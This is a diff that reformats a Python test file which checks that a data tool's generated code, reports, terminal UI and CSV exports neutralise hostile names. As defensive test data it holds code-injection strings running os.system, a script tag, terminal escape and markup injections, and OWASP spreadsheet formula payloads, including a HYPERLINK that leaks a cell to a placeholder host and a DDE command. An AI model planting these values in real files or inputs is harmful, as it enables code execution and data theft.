@@ -11,16 +11,23 @@ import numpy as np
 import yaml
 from markdown_it import MarkdownIt
 from rich.text import Text
+from stored import arrays, budget_store, env, put, spec
 
 from kit.analysis.tolerances import from_rows
 from kit.views.tolerances import render
-from stored import arrays, budget_store, env, put, spec
 
 # run by the module once imported, or by check() once called, were the names code
 RUN_AT_IMPORT = "evil\nimport os; os.system('touch PWNED')  #"
 RUN_IN_CHECK = "x\n    import os; os.system('touch PWNED_IN_CHECK')  #"
-HOSTILE = [RUN_AT_IMPORT, RUN_IN_CHECK, "a: b\n- c", "<script>alert(1)</script>",
-           "[bold]x[/]", "`|`", "tab\there\x1b[2J"]
+HOSTILE = [
+    RUN_AT_IMPORT,
+    RUN_IN_CHECK,
+    "a: b\n- c",
+    "<script>alert(1)</script>",
+    "[bold]x[/]",
+    "`|`",
+    "tab\there\x1b[2J",
+]
 
 
 def _tolerances(name: str) -> dict:
@@ -29,18 +36,22 @@ def _tolerances(name: str) -> dict:
     moved = {"kind": "array", "changed": True, "most": {"max_abs": 1e-9, "max_rel": 1e-8}}
     outputs = {n: dict(moved) for n in HOSTILE}
     outputs["a: b\n- c"] = {"kind": "array", "changed": False}
-    return from_rows({"threads": {"pairs": 1, "outputs": outputs}},
-                     {"dataset": "d" * 64, "name": name})
+    return from_rows(
+        {"threads": {"pairs": 1, "outputs": outputs}}, {"dataset": "d" * 64, "name": name}
+    )
 
 
 def test_the_numpy_file_imports_without_running_a_name_and_keeps_each_as_a_key(tmp_path):
     (tmp_path / "generated_tolerances.py").write_text(render(_tolerances(RUN_AT_IMPORT), "numpy"))
-    probe = ("import json, numpy as np, generated_tolerances as g\n"
-             "got = {n: np.ones(3) for n in g.OUTPUTS}\n"
-             "g.check(got, {n: a.copy() for n, a in got.items()})\n"
-             "print(json.dumps([list(g.OUTPUTS), g.SOURCE]))\n")
-    proc = subprocess.run([sys.executable, "-c", probe], cwd=tmp_path, capture_output=True,
-                          text=True, timeout=60)
+    probe = (
+        "import json, numpy as np, generated_tolerances as g\n"
+        "got = {n: np.ones(3) for n in g.OUTPUTS}\n"
+        "g.check(got, {n: a.copy() for n, a in got.items()})\n"
+        "print(json.dumps([list(g.OUTPUTS), g.SOURCE]))\n"
+    )
+    proc = subprocess.run(
+        [sys.executable, "-c", probe], cwd=tmp_path, capture_output=True, text=True, timeout=60
+    )
     assert not (tmp_path / "PWNED").exists() and not (tmp_path / "PWNED_IN_CHECK").exists()
     assert proc.returncode == 0, proc.stderr
     names, source = json.loads(proc.stdout)
@@ -80,8 +91,13 @@ def test_kit_s_report_quotes_a_bundle_s_host_and_cpu_for_markdown_and_html(tmp_p
 
     st = budget_store(tmp_path)
     # an imported run's environment is the sender's word: its cpu and host names
-    put(st, tmp_path, spec(replicate=7), arrays(0),
-        env(cpu="<script>alert(1)</script>", host="h|x | injected | row |", os="`|`"))
+    put(
+        st,
+        tmp_path,
+        spec(replicate=7),
+        arrays(0),
+        env(cpu="<script>alert(1)</script>", host="h|x | injected | row |", os="`|`"),
+    )
     write(report(st, of_dataset("d" * 64, {})), tmp_path / "rep")
     md = (tmp_path / "rep" / "report.md").read_text()
     page = (tmp_path / "rep" / "report.html").read_text()
@@ -105,8 +121,7 @@ def outputs_report_md(b: dict, v: dict, a: dict) -> str:
 def test_a_lab_report_s_name_ends_no_code_block_and_starts_no_heading():
     name = "x```\n# injected\n<script>alert(1)</script>\n```y.py"
     head = {"name": name, "pipeline": "p" * 64}
-    md = outputs_report_md(dict(head, factors={}), dict(head, why="no pairs"),
-                       dict(head, steps=[]))
+    md = outputs_report_md(dict(head, factors={}), dict(head, why="no pairs"), dict(head, steps=[]))
     shown = _md(md)
     assert "<script>" not in shown and "injected</h1>" not in shown
     assert shown.count("<h1>") == 1 and shown.count("<h2>") == 3
@@ -116,20 +131,33 @@ def test_a_lab_report_s_name_ends_no_code_block_and_starts_no_heading():
 
 async def test_tui_markup_shows_a_name_as_written(kit_home):
     """The Compare tab's answer and table hold a bundle's host names and run labels: text."""
+    from textual.widgets import DataTable
+
     from kit.envs.platforms import Platform
     from kit.runs.store import Store
     from kit.tui.app import KitApp
     from kit.tui.compare import ComparePane
-    from textual.widgets import DataTable
 
     linux = Platform("linux", "x86_64", cpu_flags=frozenset({"avx", "avx2"}), downloads=True)
-    rep = {"bundle_host": {"name": "[bold]theirs[/]"}, "this_host": {"name": "[@click=app.quit]"},
-           "answer": "[red]forged[/] answer",
-           "per_run": [{"label": "[b]run[/] `|`", "identical_stages": 1, "stages": 2,
-                        "emb_rel": 0.0, "flips": {}}],
-           "environment_differences": {}, "not_compared": []}
+    rep = {
+        "bundle_host": {"name": "[bold]theirs[/]"},
+        "this_host": {"name": "[@click=app.quit]"},
+        "answer": "[red]forged[/] answer",
+        "per_run": [
+            {
+                "label": "[b]run[/] `|`",
+                "identical_stages": 1,
+                "stages": 2,
+                "emb_rel": 0.0,
+                "flips": {},
+            }
+        ],
+        "environment_differences": {},
+        "not_compared": [],
+    }
     async with KitApp("synthetic", 120, platform=linux, store=Store()).run_test(
-            size=(120, 30)) as pilot:
+        size=(120, 30)
+    ) as pilot:
         await pilot.press("7")
         pilot.app.query_one(ComparePane).post_message(ComparePane.Answered(rep))
         await pilot.pause()
@@ -145,15 +173,25 @@ def test_a_pipeline_name_with_dollars_is_drawn_as_written_not_as_a_formula():
     report's whole figure (an internal error) before."""
     from kit.views.plots import plot_travel
 
-    moved = {"kind": "array", "changed": True, "worst": {"rel": 0.1},
-             "most": {"max_abs": 0.1, "max_rel": 0.1}}
+    moved = {
+        "kind": "array",
+        "changed": True,
+        "worst": {"rel": 0.1},
+        "most": {"max_abs": 0.1, "max_rel": 0.1},
+    }
     b = {"name": "a$\\frac{$b.py", "factors": {"threads": {"pairs": 1, "outputs": {"x": moved}}}}
     assert plot_travel(b, {"factors": {}}, {}).startswith(b"\x89PNG")
 
 
 # issue 54, item 1: a bundle's output names as a spreadsheet would run them (OWASP's examples)
-FORMULAS = ['=HYPERLINK("http://x"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
-            "-2+3", "\tx", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://x"&A1,"x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "\tx",
+    "\r=1+1",
+]
 
 
 def _cells(text: str) -> list:
@@ -182,13 +220,28 @@ def test_kit_budget_csv_writes_no_formula_from_any_name():
     numbers, a negative one included, stay numbers."""
     from kit.views.frames import csv_text, output_budget_frame, output_pairs_frame
 
-    outputs = {n: {"kind": "array", "changed": True, "note": n, "most": {"rel": -0.5}}
-               for n in FORMULAS}
+    outputs = {
+        n: {"kind": "array", "changed": True, "note": n, "most": {"rel": -0.5}} for n in FORMULAS
+    }
     budget = csv_text(output_budget_frame({"factors": {"seed": {"pairs": 1, "outputs": outputs}}}))
-    pairs = csv_text(output_pairs_frame([{"label": FORMULAS[0], "factor": "seed", "a": "a" * 64,
-                                          "b": "b" * 64, "outputs": outputs}]))
-    header = csv_text(output_budget_frame({"factors": {"seed": {"pairs": 1, "outputs": {
-        "x": {"kind": "array", FORMULAS[1]: 1}}}}}))
+    pairs = csv_text(
+        output_pairs_frame(
+            [
+                {
+                    "label": FORMULAS[0],
+                    "factor": "seed",
+                    "a": "a" * 64,
+                    "b": "b" * 64,
+                    "outputs": outputs,
+                }
+            ]
+        )
+    )
+    header = csv_text(
+        output_budget_frame(
+            {"factors": {"seed": {"pairs": 1, "outputs": {"x": {"kind": "array", FORMULAS[1]: 1}}}}}
+        )
+    )
     for text in (budget, pairs, header):
         cells = _cells(text)
         live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-0.5"]
@@ -204,17 +257,20 @@ def test_every_csv_kit_writes_goes_through_the_one_helper():
     from pathlib import Path
 
     root = Path(__file__).parent.parent / "kit"
-    writers = {str(p.relative_to(root)) for p in root.rglob("*.py")
-               if any(w in p.read_text() for w in (".to_csv(", "csv.writer", "DictWriter",
-                                                     "to_excel("))}
+    writers = {
+        str(p.relative_to(root))
+        for p in root.rglob("*.py")
+        if any(w in p.read_text() for w in (".to_csv(", "csv.writer", "DictWriter", "to_excel("))
+    }
     assert writers == {"views/frames.py"}
 
 
 def test_a_bundle_whose_output_names_are_formulas_is_refused(tmp_path, monkeypatch, capsys):
     """No worker names an output `=...`: a bundle that does is forged, and refused in one line."""
+    from test_bundle_trust import forge, refused, restage
+
     from kit.cli import main
     from kit.data import load_dataset
-    from test_bundle_trust import forge, refused, restage
 
     ds = load_dataset("synthetic", 120)
     budget_store(tmp_path, dataset=ds, home=tmp_path / "lab")
@@ -223,6 +279,9 @@ def test_a_bundle_whose_output_names_are_formulas_is_refused(tmp_path, monkeypat
     capsys.readouterr()
     monkeypatch.setenv("KIT_HOME", str(tmp_path / "here"))
     for i, name in enumerate(FORMULAS[:3]):
-        bad = forge(tmp_path / "lab.kit", tmp_path / f"f{i}.kit",
-                    lambda doc, ms, name=name: restage(doc["runs"][0], ms, name, np.zeros(3)))
+        bad = forge(
+            tmp_path / "lab.kit",
+            tmp_path / f"f{i}.kit",
+            lambda doc, ms, name=name: restage(doc["runs"][0], ms, name, np.zeros(3)),
+        )
         refused(capsys, bad, "is not a plain name", "refusing the bundle")
